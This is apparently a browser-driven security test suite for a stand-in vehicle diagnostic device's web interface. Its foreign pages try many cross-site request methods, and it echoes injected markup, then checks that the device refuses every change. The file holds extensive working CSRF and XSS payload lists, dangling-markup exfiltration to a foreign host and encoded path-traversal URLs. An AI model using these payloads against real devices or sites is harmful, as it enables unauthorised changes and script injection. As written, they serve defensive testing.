"""Foreign pages and injected markup against the whole stand-in device, in a real browser.

Runs as browser_journey.py does, on loopback and at another address. Two kinds of attack, and nobody clicks in
either:

- Foreign pages, of other addresses, other ports and local files, try every way to make the browser ask
  the device for a change. Each way is tried on a canary too, a server that only counts, so that a way
  that is broken does not pass for one that is harmless.
- The set-option page echoes markup of every kind. Each kind is tried on a page without the device's
  headers too.

With "--long" each is tried from more places and against more of the device.
"""

import base64
import contextlib
import http.server
import os
import pathlib
import re
import shutil
import signal
import subprocess
import tempfile
import threading
import time
import unittest
import urllib.parse

from selenium.common.exceptions import TimeoutException, WebDriverException

import browser
from browser import LIMIT, PORT, SETTINGS, SHIPPED_SETTINGS, eventually

NVM_PORT = 5302
NVM_LOG = pathlib.Path("/tmp/nvm.log")

CANARY = "http://127.0.0.3:9003"
# Where the foreign pages are: on another site; under the device's own name or address with another port,
# which makes it the same site.
FOREIGN = "http://127.0.0.2:9001"
SAME_SITE = "http://localhost:9002"
SAME_ADDRESS = "http://127.0.0.1:9002"
LOCAL_FILE = "file:///tmp/attack.html"
OTHER_ADDRESS = "192.168.7.2"  # where the foreign pages are when the device is not on loopback


# --- What foreign pages try. {u} is the address; in scripts it is within single quotes.

WDDX = (
    "<?xml version='1.0' encoding='UTF-8'?><!DOCTYPE wddxPacket SYSTEM "
    "'http://www.openwddx.org/downloads/dtd/wddx_dtd_10.txt'><wddxPacket version='1.0'><header/>"
    "<data><struct><var name='DeviceOwner'><string>EVIL</string></var>"
    "<var name='IfhClientIpAddr'><string>127.0.0.1</string></var></struct></data></wddxPacket>"
)


def form(method, encoding, extra=""):
    fields = {"attempt": "{a}", "CanDetectTimeout": "evil", "allocation": "allocate"}
    if encoding == "text/plain":
        # It sends NAME=VALUE: a whole packet, cut at its first sign of that kind.
        fields = dict([WDDX.split("=", 1)])
    inputs = "".join(
        f'<input type=hidden name="{name}" value="{value}">' for name, value in fields.items()
    )
    return (
        f"<form action='{{u}}' method={method} enctype='{encoding}' {extra}>{inputs}</form>"
        "<script>document.forms[0].submit()</script>"
    )


# Parts of one page.
PARTS = {
    "img": "<img src='{u}'>",
    "img-no-referrer": "<img referrerpolicy=no-referrer src='{u}'>",
    "img-anonymous": "<img crossorigin=anonymous src='{u}'>",
    "img-credentials": "<img crossorigin=use-credentials src='{u}'>",
    "srcset": "<img srcset='{u} 1x'>",
    "picture": "<picture><source srcset='{u}'><img></picture>",
    "input-image": "<input type=image src='{u}'>",
    "svg-image": "<svg><image href='{u}' width=9 height=9 /></svg>",
    "svg-feimage": "<svg width=9 height=9><filter id=f{n}><feImage href='{u}'/></filter>"
    "<rect width=9 height=9 filter='url(#f{n})'/></svg>",
    "video": "<video src='{u}' preload=auto></video>",
    "poster": "<video poster='{u}'></video>",
    "audio": "<audio src='{u}' preload=auto></audio>",
    "source": "<video preload=auto><source src='{u}'></video>",
    "track": "<video crossorigin=anonymous src='{c}'><track default kind=captions src='{u}'></video>",
    "embed": "<embed src='{u}'>",
    "embed-svg": "<embed type=image/svg+xml src='{u}'>",
    "object": "<object data='{u}'></object>",
    "object-html": "<object type=text/html data='{u}'></object>",
    "iframe": "<iframe src='{u}'></iframe>",
    "iframe-sandbox": "<iframe sandbox src='{u}'></iframe>",
    "iframe-credentialless": "<iframe credentialless src='{u}'></iframe>",
    "script": "<script src='{u}'></script>",
    "script-module": "<script type=module src='{u}'></script>",
    "script-async": "<script async src='{u}'></script>",
    "stylesheet": "<link rel=stylesheet href='{u}'>",
    "stylesheet-alternate": "<link rel='alternate stylesheet' title=x{n} href='{u}'>",
    "preload-image": "<link rel=preload as=image href='{u}'>",
    "preload-script": "<link rel=preload as=script href='{u}'>",
    "preload-style": "<link rel=preload as=style href='{u}'>",
    "preload-font": "<link rel=preload as=font crossorigin href='{u}'>",
    "preload-fetch": "<link rel=preload as=fetch crossorigin href='{u}'>",
    "preload-track": "<link rel=preload as=track href='{u}'>",
    "modulepreload": "<link rel=modulepreload href='{u}'>",
    "prefetch": "<link rel=prefetch href='{u}'>",
    "prefetch-document": "<link rel=prefetch as=document href='{u}'>",
    "manifest": "<link rel=manifest href='{u}'>",
    "mask-icon": "<link rel=mask-icon href='{u}'>",
    "icon": "<link rel=icon href='{u}'>",
    "css-background": "<i style=\"display:block;width:9px;height:9px;background:url('{u}')\"></i>",
    "css-content": "<i style=\"content:url('{u}')\">x</i>",
    "css-list": "<li style=\"list-style-image:url('{u}')\">x",
    "css-border": "<i style=\"border:9px solid;border-image:url('{u}') 9\">x</i>",
    "css-mask": "<i style=\"display:block;width:9px;height:9px;mask-image:url('{u}')\">x</i>",
    "css-image-set": "<i style=\"display:block;width:9px;height:9px;"
    "background-image:image-set('{u}' 1x)\">x</i>",
    "css-shape": "<i style=\"float:left;shape-outside:url('{u}')\">x</i>",
    "css-filter": "<i style=\"display:block;width:9px;height:9px;filter:url('{u}#f')\">x</i>",
    "css-import": "<style>@import '{u}';</style>",
    "css-font": "<style>@font-face{{font-family:f{n};src:url('{u}')}}</style>"
    "<p style='font-family:f{n}'>x</p>",
    "body-background": "<table background='{u}'><tr><td>x</table>",
    "svg-script": "<svg><script href='{u}'></script></svg>",
    "svg-use": "<svg><use href='{u}#x'/></svg>",
    "speculation-prefetch": "<script type=speculationrules>"
    '{{"prefetch":[{{"source":"list","urls":["{u}"],"eagerness":"immediate"}}]}}</script>',
    "speculation-prefetch-no-referrer": "<script type=speculationrules>"
    '{{"prefetch":[{{"source":"list","urls":["{u}"],"eagerness":"immediate",'
    '"referrer_policy":"no-referrer"}}]}}</script>',
    "speculation-prerender": "<script type=speculationrules>"
    '{{"prerender":[{{"source":"list","urls":["{u}"],"eagerness":"immediate"}}]}}</script>',
    "ping": "<a ping='{u}' href='#'>x</a><script>document.currentScript.previousSibling.click()"
    "</script>",
    "attribution": "<img attributionsrc='{u}'>",
    "fetch": "<script>fetch('{u}').catch(x=>0)</script>",
    "fetch-no-cors": "<script>fetch('{u}',{{mode:'no-cors'}}).catch(x=>0)</script>",
    "fetch-no-referrer": "<script>fetch('{u}',{{mode:'no-cors',referrerPolicy:'no-referrer'}})"
    ".catch(x=>0)</script>",
    "fetch-include": "<script>fetch('{u}',{{mode:'no-cors',credentials:'include'}}).catch(x=>0)"
    "</script>",
    "fetch-keepalive": "<script>fetch('{u}',{{mode:'no-cors',keepalive:true}}).catch(x=>0)</script>",
    "fetch-head": "<script>fetch('{u}',{{mode:'no-cors',method:'HEAD'}}).catch(x=>0)</script>",
    "fetch-put": "<script>fetch('{u}',{{method:'PUT',body:'x'}}).catch(x=>0)</script>",
    "fetch-header": "<script>fetch('{u}',{{headers:{{'X-Evil':'1'}}}}).catch(x=>0)</script>",
    "fetch-post-text": "<script>fetch('{u}',{{mode:'no-cors',method:'POST',body:'" + "{w}" + "'}})"
    ".catch(x=>0)</script>",
    "fetch-post-cors": "<script>fetch('{u}',{{method:'POST',body:'{w}'}}).catch(x=>0)</script>",
    "fetch-post-urlencoded": "<script>fetch('{u}',{{mode:'no-cors',method:'POST',"
    "body:new URLSearchParams('CanDetectTimeout=evil&allocation=allocate')}}).catch(x=>0)</script>",
    "fetch-post-form": "<script>{{let f=new FormData();f.append('CanDetectTimeout','evil');"
    "f.append('allocation','allocate');"
    "fetch('{u}',{{mode:'no-cors',method:'POST',body:f}}).catch(x=>0)}}</script>",
    "fetch-get-window-cookieless": "<script>fetch('{u}',{{mode:'no-cors',credentials:'omit',"
    "cache:'no-store'}}).catch(x=>0)</script>",
    "fetch-later": "<script>try{{fetchLater('{u}',{{activateAfter:0}})}}catch(x){{}}</script>",
    "xhr": "<script>{{let x=new XMLHttpRequest();x.open('GET','{u}');x.send()}}</script>",
    "xhr-post": "<script>{{let x=new XMLHttpRequest();x.open('POST','{u}');x.send('{w}')}}</script>",
    "xhr-sync": "<script>try{{let x=new XMLHttpRequest();x.open('GET','{u}',false);x.send()}}"
    "catch(x){{}}</script>",
    "beacon": "<script>navigator.sendBeacon('{u}','{w}')</script>",
    "beacon-form": "<script>navigator.sendBeacon('{u}',"
    "new URLSearchParams('CanDetectTimeout=evil&allocation=allocate'))</script>",
    "beacon-empty": "<script>navigator.sendBeacon('{u}')</script>",
    "eventsource": "<script>new EventSource('{u}')</script>",
    "websocket": "<script>try{{new WebSocket('{u}'.replace('http','ws'))}}catch(x){{}}</script>",
    "worker": "<script>try{{new Worker('{u}')}}catch(x){{}}</script>",
    "worker-import": "<script>new Worker(URL.createObjectURL(new Blob([`importScripts('{u}')`])))"
    "</script>",
    "worker-fetch": "<script>new Worker(URL.createObjectURL(new Blob([`fetch('{u}',"
    "{{mode:'no-cors'}}).catch(x=>0)`])))</script>",
    "worker-websocket": "<script>new Worker(URL.createObjectURL(new Blob([`new WebSocket("
    "'{u}'.replace('http','ws'))`])))</script>",
    "worker-module": "<script>new Worker(URL.createObjectURL(new Blob([`import '{u}'`],"
    "{{type:'text/javascript'}})),"
    "{{type:'module'}})</script>",
    "dynamic-import": "<script>import('{u}').catch(x=>0)</script>",
    "worklet": "<script>try{{CSS.paintWorklet.addModule('{u}').catch(x=>0)}}catch(x){{}}</script>",
    "audio-worklet": "<script>try{{new OfflineAudioContext(1,9,44100).audioWorklet.addModule('{u}')"
    ".catch(x=>0)}}catch(x){{}}</script>",
    "font-face": "<script>new FontFace('g{n}','url({u})').load().catch(x=>0)</script>",
    "image-object": "<script>new Image().src='{u}'</script>",
    "audio-object": "<script>new Audio('{u}').load()</script>",
    "turn": "<script>try{{let c=new RTCPeerConnection({{iceServers:[{{urls:'turn:'+"
    "new URL('{u}').host+'?transport=tcp',username:'x',credential:'x'}}]}});"
    "c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))}}catch(x){{}}"
    "</script>",
    "portal": "<portal src='{u}'></portal>",
    "fencedframe": "<fencedframe src='{u}'></fencedframe>",
    "link-prerender": "<link rel=prerender href='{u}'>",
    "preconnect": "<link rel=preconnect href='{u}'>",
    "dns-prefetch": "<link rel=dns-prefetch href='{u}'>",
}

# Documents of their own. They are tried in a frame, and as a page.
DOCUMENTS = {
    "location": "<script>location='{u}'</script>",
    "location-replace": "<script>location.replace('{u}')</script>",
    "location-no-referrer": "<meta name=referrer content=no-referrer><script>location='{u}'</script>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url={u}'>",
    "click": "<a href='{u}'>x</a><script>document.links[0].click()</script>",
    "click-no-referrer": "<a rel=noreferrer href='{u}'>x</a><script>document.links[0].click()</script>",
    "download": "<a download href='{u}'>x</a><script>document.links[0].click()</script>",
    "navigation": "<script>navigation.navigate('{u}')</script>",
    "body-background": "<body background='{u}'>x",
    "frameset": "<frameset cols=*><frame src='{u}'></frameset>",
    "form-get": form("get", ""),
    "form-post": form("post", ""),
    "form-multipart": form("post", "multipart/form-data"),
    "form-text": form("post", "text/plain"),
    "form-no-referrer": form("post", "", "rel=noreferrer"),
    "form-text-no-referrer": "<meta name=referrer content=no-referrer>" + form("post", "text/plain"),
}
# Only as a page: a frame may not open windows here.
PAGES = {
    "window-open": "<script>open('{u}')</script>",
    "window-open-no-referrer": "<script>open('{u}','_blank','noopener,noreferrer')</script>",
    "click-blank": "<a target=_blank href='{u}'>x</a><script>document.links[0].click()</script>",
    "form-blank": form("post", "text/plain", "target=_blank"),
}
# Answers of the foreign server, as a page, in a frame and as a picture.
ANSWERS = {
    "redirect-301": (301, "Location", "{u}"),
    "redirect-302": (302, "Location", "{u}"),
    "redirect-303": (303, "Location", "{u}"),
    "redirect-307": (307, "Location", "{u}"),
    "redirect-308": (308, "Location", "{u}"),
    "refresh-header": (200, "Refresh", "0;url={u}"),
    "link-header": (200, "Link", "<{u}>; rel=preload; as=image"),
    "link-header-style": (200, "Link", "<{u}>; rel=preload; as=style"),
    "csp-report": (200, "Content-Security-Policy", "img-src 'none'; report-uri {u}"),
}

# What the browser itself does not send, on the canary neither: for want of a right, of a feature, or
# because the address needs https. They are tried all the same.
UNSENT = {
    "attribution", "audio-worklet", "css-filter", "dns-prefetch", "fencedframe", "fetch-later",
    "icon", "link-prerender", "manifest", "mask-icon", "portal", "preconnect", "svg-use", "turn",
    "worker",
}  # fmt: skip
# What loopback is enough for.
UNSENT_BY_HTTP = {"speculation-prefetch", "speculation-prefetch-no-referrer", "worklet"}


def filled(template, url, number):
    attempt = re.search(ATTEMPT, url)
    return template.format(
        u=url,
        a=attempt[1] if attempt else "",
        c=CANARY + "/permit",
        n=number,
        w=WDDX.replace("'", "\\'"),
    )


# --- What the page is made to echo. {u} asks the device itself for a change, {f} a foreign server.

HARM = "document.title='harm'"
MARKUP = {
    **{
        f"part-{name}": re.sub(r"\{c\}", "/images/tarn.gif", text)
        for name, text in PARTS.items()
        if "<script>" not in text
    },
    "meta-refresh": "<meta http-equiv=refresh content='0;url={u}'>",
    "meta-refresh-quoted": "<meta http-equiv=\"refresh\" content=\"0; URL='{u}'\">",
    "base": "<base href='{f}/'><img src=x.gif>",
    "base-target": "<base target=_top><img src='{u}'>",
    "iframe-srcdoc": "<iframe srcdoc=\"<img src='{u}'><script>parent." + HARM + "</script>\"></iframe>",
    "iframe-javascript": "<iframe src=\"javascript:parent." + HARM + "\"></iframe>",
    "iframe-data": "<iframe src=\"data:text/html,<script>parent." + HARM + "</script>"
    "<img src='{u}'>\"></iframe>",
    "object-data": "<object data=\"data:text/html,<img src='{u}'>\"></object>",
    "embed-javascript": "<embed src=\"javascript:" + HARM + "\">",
    "script-inline": "<script>" + HARM + "</script>",
    "script-fetch": "<script>fetch('{u}')</script>",
    "script-module-inline": "<script type=module>" + HARM + "</script>",
    "script-data": "<script src=\"data:text/javascript," + HARM + "\"></script>",
    "svg-onload": "<svg onload=\"" + HARM + "\"></svg>",
    "svg-script-inline": "<svg><script>" + HARM + "</script></svg>",
    "svg-animate": "<svg><a><animate attributeName=href values='{u}' begin=0s /></a></svg>",
    "svg-set-image": "<svg><image width=9 height=9><set attributeName=href to='{u}'/></image></svg>",
    "svg-onbegin": "<svg><animate onbegin=\"" + HARM + "\" attributeName=x dur=1s></svg>",
    "svg-foreignobject": "<svg><foreignObject><img src='{u}'/></foreignObject></svg>",
    "svg-cursor": "<svg><rect width=9 height=9 style=\"cursor:url('{u}'),auto\"/></svg>",
    "svg-style": "<svg><style>@import '{u}';</style></svg>",
    "svg-pattern": "<svg width=9 height=9><pattern id=p width=9 height=9><image href='{u}' width=9 "
    "height=9 /></pattern><rect width=9 height=9 fill='url(#p)'/></svg>",
    "svg-xlink": "<svg><image xlink:href='{u}' width=9 height=9 /></svg>",
    "img-onerror": "<img src='/images/nowhere.gif' onerror=\"" + HARM + "\">",
    "img-onload": "<img src='/images/tarn.gif' onload=\"" + HARM + "\">",
    # A folder that leads on: web servers decode it.
    "img-encoded-folder": "<img src='/images/..%2fsetobdconf.cgi?CanDetectTimeout=evil'>"
    "<img src='/images/..%2Fsetobdconf.cgi?CanDetectTimeout=evil'>",
    "style-encoded-folder": "<link rel=stylesheet href='/css/..%2fsetobdconf.cgi?CanDetectTimeout=evil'>",
    "img-lazy": "<img loading=lazy src='{u}'>",
    "img-nested": "<p><div><img src='{u}'></div></p>",
    "body-onload": "<body onload=\"" + HARM + "\">",
    "body-background": "<body background='{u}'>",
    "details-ontoggle": "<details open ontoggle=\"" + HARM + "\">x</details>",
    "input-autofocus": "<input autofocus onfocus=\"" + HARM + "\">",
    "video-onerror": "<video src=x onerror=\"" + HARM + "\"></video>",
    "marquee-onstart": "<marquee onstart=\"" + HARM + "\">x</marquee>",
    "style-animation": "<style>@keyframes k{{}}</style><i style='animation:k' onanimationstart=\""
    + HARM + "\">x</i>",
    "style-hidden": "<style>h2{{display:none}}</style>",
    "style-attribute": "<i style=\"position:fixed;inset:0;background:url('{u}')\">x</i>",
    "style-import": "<style>@import url('{f}');</style>",
    "form-autofocus": "<form action='{u}' id=z></form><button form=z autofocus>x</button>",
    "form-formaction": "<form><button formaction='{u}' autofocus>x</button></form>",
    "meta-csp": "<meta http-equiv=Content-Security-Policy content=\"default-src *\"><img src='{f}'>",
    "meta-csp-report": "<meta http-equiv=Content-Security-Policy-Report-Only "
    "content=\"img-src 'none'; report-uri {u}\">",
    "meta-referrer": "<meta name=referrer content=no-referrer><img src='{u}'>",
    "meta-cookie": "<meta http-equiv=set-cookie content='evil=1'>",
    "template-shadow": "<div><template shadowrootmode=open><img src='{u}'></template></div>",
    "noscript": "<noscript><img src='{u}'></noscript>",
    "math": "<math><mtext><img src='{u}'></mtext></math>",
    "dangling-img": "<img src='{f}?",
    "dangling-textarea": "<form action='{f}'><textarea name=x>",
    "plaintext": "<img src='{u}'><plaintext>",
    "comment": "<!-- --!><img src='{u}'>",
    "close-all": "</p></div></body></html><img src='{u}'>",
    "popover": "<div popover id=v onbeforetoggle=\"" + HARM + "\">x</div>",
    "dialog": "<dialog open><img src='{u}'></dialog>",
    "xmp": "<xmp></xmp><img src='{u}'>",
    "rare-elements": "<bgsound src='{u}'><image src='{u}'><isindex action='{u}'>",
    "applet": "<applet code=x archive='{u}'></applet>",
    "frameset": "</p></div><frameset><frame src='{u}'></frameset>",
    "importmap": "<script type=importmap>{{\"imports\":{{\"x\":\"{u}\"}}}}</script>",
    "html-manifest": "<html manifest='{u}'>",
    "select": "<select><selectedcontent></select><img src='{u}'>",
    "picture-media": "<picture><source media='(min-width:1px)' srcset='{u}'><img></picture>",
    "svg-mpath": "<svg><mask id=m><image href='{u}' width=9 height=9 /></mask>"
    "<rect width=9 height=9 mask='url(#m)'/></svg>",
}  # fmt: skip


# --- Servers

class Hits:
    """What was asked of the test's own servers."""

    def __init__(self):
        self._lock = threading.Lock()
        self._paths = []

    def add(self, path):
        with self._lock:
            self._paths.append(path)

    def clear(self):
        with self._lock:
            self._paths.clear()

    def attempts(self):
        with self._lock:
            return {match[1] for path in self._paths if (match := re.search(ATTEMPT, path))}


ATTEMPT = r"attempt=([\w.:-]+)"
HITS = Hits()
DOCUMENT_OF = {}  # by path: (status, headers, text)


class ForeignSite(http.server.BaseHTTPRequestHandler):
    """Serves the attackers' pages and permits everything."""

    def answer(self):
        HITS.add(self.path)
        length = int(self.headers.get("Content-Length") or 0)
        self.rfile.read(length)
        path = urllib.parse.urlsplit(self.path).path
        status, headers, text = DOCUMENT_OF.get(path, (200, {}, ""))
        body = text.encode()
        self.send_response(status)
        for name, value in {
            "Content-Type": "text/html;charset=utf-8",
            "Content-Length": len(body),
            "Cache-Control": "no-store",
            "Access-Control-Allow-Origin": self.headers.get("Origin", "*"),
            "Access-Control-Allow-Credentials": "true",
            "Access-Control-Allow-Headers": "X-Evil",
            "Access-Control-Allow-Methods": "GET, POST, PUT",
            "Supports-Loading-Mode": "credentialed-prerender",
            **headers,
        }.items():
            self.send_header(name, value)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)

    do_GET = do_POST = do_PUT = do_HEAD = do_OPTIONS = answer

    def log_message(self, *_):
        pass


class ForeignServer(http.server.ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 256

    def handle_error(self, *_):
        pass  # browsers go away when they like


@contextlib.contextmanager
def foreign_sites():
    servers = []
    for site in (CANARY, FOREIGN, *own_sites()[:1]):
        parts = urllib.parse.urlsplit(site)
        address = "127.0.0.1" if parts.hostname == "localhost" else parts.hostname
        servers.append(ForeignServer((address, parts.port), ForeignSite))
        threading.Thread(target=servers[-1].serve_forever, daemon=True).start()
    try:
        yield
    finally:
        for server in servers:
            server.shutdown()
            server.server_close()


# --- The device, seen from behind

def requests_of(log):
    """(path with query, status) of the web server's requests."""
    return [
        (match[2], int(match[3]), match[1])
        for line in log.splitlines()
        if (match := re.search(r'"([A-Z]+) (\S+) HTTP/[\d.]+" (\d{3}) ', line))
    ]


def access_log():
    """The log up to now: the server keeps its last lines to itself for a while."""
    access_log.calls = getattr(access_log, "calls", 0) + 1
    mark = f"/?read={access_log.calls}"
    log = pathlib.Path("/tmp/web-0/run/access.log")
    subprocess.run(["/usr/bin/curl", "-sS", "--insecure", "-o", "/dev/null", f"{browser.ROOT}{mark}"], check=True)
    if not eventually(lambda: mark + " " in log.read_text(errors="replace")):
        raise TimeoutError("the web server does not write its log")
    return log.read_text(errors="replace")


# For web servers that write none as shipped. lighttpd's tells whether a password came along, too.
WITH_ACCESS_LOG = (
    (r"(?m)^accesslog.filename.*",
     r'\g<0>\naccesslog.format = "%h %V %u %t \\"%r\\" %>s %b \\"%{Authorization}i\\""'),
    (r"access_log off;", "access_log /tmp/web-0/run/access.log;"),
    (r"(?m)^LoadModule cgid_module .*",
     r'\g<0>\nCustomLog /tmp/web-0/run/access.log "%h %l %u %t \\"%r\\" %>s %b"'),
)


def nvm_requests():
    return len(NVM_LOG.read_text().splitlines()) if NVM_LOG.exists() else 0


def is_allocated():
    """Whether somebody holds the diagnostic interface, as the device's own page has it."""
    program = {"REQUEST_METHOD": "GET", "QUERY_STRING": "", "JAVA_CLASSPATH": "/srv/vemo/java",
               "JAVA_OPTIONS": "-XX:VMOptionsFile=/srv/vemo/java.options"}
    page = subprocess.run(["/srv/vemo/htdocs/channeldeviceconfig.cgi"], env=program, stdout=subprocess.PIPE,
                          check=True).stdout.decode("latin-1")
    return re.search(r"<dt>Allocation</dt><dd>(\w+)</dd>", page)[1] != "Free"


def setUpModule():
    unittest.enterModuleContext(browser.running_device(WITH_ACCESS_LOG))
    unittest.enterModuleContext(foreign_sites())
    Attack.driver = unittest.enterModuleContext(browser.running_browser(
        # Without which it fetches nothing ahead of time.
        without=("--disable-background-networking",),
        page_load_strategy="eager",
        # Forms and links of other pages come up in windows of their own, and files are downloaded.
        preferences={"download.default_directory": "/tmp/downloads"},
    ))


class Attack(unittest.TestCase):
    def setUp(self):
        shutil.copyfile(SHIPPED_SETTINGS, SETTINGS)
        HITS.clear()

    def open(self, url):
        # A page that leads into nothing is no page for the driver.
        with contextlib.suppress(TimeoutException, WebDriverException):
            self.driver.get(url)

    def close_windows(self):
        first, *others = self.driver.window_handles
        for window in others:
            self.driver.switch_to.window(window)
            self.driver.close()
        self.driver.switch_to.window(first)


class Attempts:
    """The pages of one place, and the attempts on them."""

    def __init__(self, place, target, tag):
        self.place = place
        self.target = target
        self.tag = tag
        self.names = []

    def url(self, name):
        """The target for this attempt."""
        self.names.append(name)
        if f":{NVM_PORT}/" in self.target:
            return f"{self.target}#attempt={self.tag}.{name}"  # nothing must stand behind its query
        sign = "&" if "?" in self.target else "?"
        return f"{self.target}{sign}attempt={self.tag}.{name}"

    def texts(self):
        """(path, status, headers, text) of each page. The first holds all parts, and the documents in
        frames."""
        parts = [
            filled(text, self.url(name), number) for number, (name, text) in enumerate(PARTS.items())
        ]
        for name, text in DOCUMENTS.items():
            inner = filled(text, self.url(f"frame-{name}"), 0).replace("&", "&amp;")
            parts.append(f'<iframe srcdoc="{inner.replace(chr(34), "&quot;")}"></iframe>')
        data = filled(DOCUMENTS["form-text"], self.url("data-form-text"), 0)
        data = base64.b64encode(data.encode()).decode()
        parts.append(f"<iframe src='data:text/html;base64,{data}'></iframe>")
        if self.place.startswith("http"):
            for name, (status, header, value) in ANSWERS.items():
                for use, element in (("frame", "iframe"), ("img", "img")):
                    if use == "img" and status == 200:
                        continue
                    path = f"/{self.tag}/answer-{use}-{name}"
                    url = self.url(f"{use}-{name}")
                    DOCUMENT_OF[path] = (status, {header: value.format(u=url)}, "<img src=/x.gif>")
                    parts.append(f"<{element} src='{path}'></{element}>")
        yield f"/{self.tag}/all", 200, {}, "<!DOCTYPE html><body>" + "\n".join(parts)

    def pages(self):
        """Those that lead away, one by one."""
        for name, text in {**DOCUMENTS, **PAGES}.items():
            yield f"/{self.tag}/{name}", 200, {}, filled(text, self.url(f"page-{name}"), 0)
        if self.place.startswith("http"):
            # A redirect of an address that was typed would be taken for the typed address itself: nothing
            # in the request tells. So a page leads there.
            for name, (status, header, value) in ANSWERS.items():
                url = self.url(f"page-{name}")
                path = f"/{self.tag}/answer-{name}"
                DOCUMENT_OF[path] = (status, {header: value.format(u=url)}, "<img src=/x.gif>")
                yield f"/{self.tag}/{name}", 200, {}, filled(DOCUMENTS["location"], path, 0)


def hosts():
    """The device's, in addresses."""
    return ("localhost", "127.0.0.1") if browser.is_on_loopback() else (browser.HOST,)


def own_sites():
    """Other ports of the device's. Over http, elsewhere than on loopback, they count as the device: no browser
    tells."""
    if browser.is_on_loopback():
        return SAME_SITE, SAME_ADDRESS
    return (f"http://{browser.HOST}:9002",) if browser.HAS_TLS else ()


SET_OPTION = "setobdconf.cgi?CanDetectTimeout=evil"
ALLOCATION = "channeldeviceconfig.cgi?allocation=allocate"


class ForeignPages(Attack):
    def attack(self, place, target, tag, with_pages, is_hidden=False):
        """Opens all pages of the place, which may keep their address to themselves. Returns the attempts."""
        attempts = Attempts(place, target, tag)
        pages = list(attempts.texts()) + (list(attempts.pages()) if with_pages else [])
        for path, status, headers, text in pages:
            document = (status, {**headers, "Referrer-Policy": "no-referrer"} if is_hidden else headers, text)
            DOCUMENT_OF[path] = document
            if place == LOCAL_FILE:
                pathlib.Path("/tmp/attack.html").write_text(document[2], encoding="utf-8")
                self.open(place)
            else:
                self.open(place + path)
            self.pages_opened += 1
            # A page that is left stops what it has not sent.
            eventually(lambda: self.driver.execute_script("return document.readyState") == "complete")
        self.close_windows()
        return {f"{tag}.{name}" for name in attempts.names}

    def setUp(self):
        super().setUp()
        self.pages_opened = 0

    def test_each_way_works_where_it_is_permitted(self):
        made = self.attack(FOREIGN, CANARY + "/permit", "canary", True)
        unsent = UNSENT if browser.is_on_loopback() else UNSENT | UNSENT_BY_HTTP
        expected = {name for name in made if name.partition(".")[2] not in unsent}
        self.assertTrue(
            eventually(lambda: HITS.attempts() >= expected), sorted(expected - HITS.attempts())
        )
        print(f"ways to ask: {len(made)}, of which the browser sends {len(expected)}")

    def test_they_change_nothing_of_the_device(self):
        scheme = browser.ROOT.partition(":")[0]
        boot = browser.BOOT.read_text()
        set_option = f"{scheme}://{hosts()[0]}:{PORT}/{SET_OPTION}"
        allocate = f"{scheme}://{hosts()[-1]}:{PORT}/{ALLOCATION}"
        # Place, target, whether the pages that lead away are tried too, and whether pages hide their address. To
        # loopback and to https the browser tells all the same.
        is_hidden = not browser.is_on_loopback() and not browser.HAS_TLS
        attacks = [
            (FOREIGN, set_option, True, is_hidden),
            *((place, set_option, False, False) for place in (*own_sites()[:1], LOCAL_FILE) if not is_hidden),
            (FOREIGN, allocate, False, False),
            (FOREIGN, f"{scheme}://{hosts()[0]}:{PORT}/reboot.cgi", False, False),
            # It leads on to https.
            *([(FOREIGN, f"http://{hosts()[0]}:{PORT + 1}/{SET_OPTION}", True, True)] if browser.HAS_TLS else []),
        ]
        if browser.IS_LONG:
            attacks = [
                (place, f"{scheme}://{host}:{PORT}/{target}", True, is_hidden)
                for is_hidden in (False, True)
                for place in (FOREIGN, *own_sites(), LOCAL_FILE)
                if not is_hidden or place == FOREIGN
                for host in hosts()
                for target in (
                    SET_OPTION,
                    ALLOCATION,
                    "reboot.cgi",
                    "%73etobdconf.cgi/more?CanDetectTimeout=evil",
                )
            ]
        made = set()
        for number, (place, target, with_pages, is_hidden) in enumerate(attacks):
            made |= self.attack(place, target, f"device{number}", with_pages, is_hidden)
        # And once more by a browser that has just been used for the device's own pages.
        if browser.IS_LONG or not browser.is_on_loopback():
            browser.open_page(self.driver, browser.success("300"))
            number, attacks = len(attacks), attacks + attacks[:1]
            made |= self.attack(FOREIGN, set_option, f"device{number}", browser.IS_LONG, True)
        # Attempts that work on the canary work here; the last may be on their way.
        time.sleep(1)

        arrived = {}
        for path, status, method in requests_of(access_log()):
            match = re.search(ATTEMPT, path)
            if match and match[1] in made and status != 307:
                arrived.setdefault(match[1], []).append((method, path, status))
        print(
            f"foreign pages: {self.pages_opened}, attempts: {len(made)}, "
            f"of which the device was asked by {len(arrived)}"
        )
        self.assertGreater(len(arrived), len(made) * 3 // 4)
        for name, requests in arrived.items():
            for method, path, status in requests:
                if path.startswith("/channeldeviceconfig.cgi") and method == "GET":
                    continue  # it only shows
                with self.subTest(attempt=name, place=attacks[int(re.search(r"\d+", name)[0])][0]):
                    self.assertEqual(status, 403, f"{method} {path}")
        self.assertEqual(SETTINGS.read_bytes(), SHIPPED_SETTINGS.read_bytes())
        self.assertFalse(is_allocated())
        self.assertEqual(browser.BOOT.read_text(), boot)
        if browser.HAS_PASSWORD:
            # With requests for pages; others the browser keeps apart by the site of the page.
            told = len(re.findall(r"attempt=.* 403 .*Digest username=", access_log()))
            print(f"requests with the password, refused: {told}")
            self.assertGreater(told, len(DOCUMENTS))

    def test_a_typed_address_that_redirects_to_the_device(self):
        for status in (301, 302, 303, 307, 308):
            path = f"/typed-{status}"
            url = f"{browser.ROOT}/{SET_OPTION}{status}"
            DOCUMENT_OF[path] = (status, {"Location": url}, "")
            self.open(FOREIGN + path)
            stored = SETTINGS.read_text()
            if browser.is_on_loopback():
                self.assertIn(f"\nVEMODCanDetectTimeout=evil{status}\n", stored)
            else:
                self.assertEqual(stored, SHIPPED_SETTINGS.read_text())

    def test_they_give_no_order_to_the_nvm_service(self):
        if not (browser.is_on_loopback() or browser.IS_LONG):
            self.skipTest("it listens on loopback, wherever the device does")
        service = f"http://127.0.0.1:{NVM_PORT}/nVm?FunctionName=nvmAllocateDevice"
        before = nvm_requests()
        places = (FOREIGN, *own_sites()[:1], LOCAL_FILE) if browser.IS_LONG else (FOREIGN,)
        made = set()
        for number, place in enumerate(places):
            made |= self.attack(place, service, f"nvm{number}", browser.IS_LONG)
        time.sleep(1)
        print(f"attempts on the nVm service: {len(made)}, it heard {nvm_requests() - before}")
        self.assertFalse(is_allocated())


class InjectedMarkup(Attack):
    OWN = "/setobdconf.cgi?CanDetectTimeout=harm&attempt="

    @staticmethod
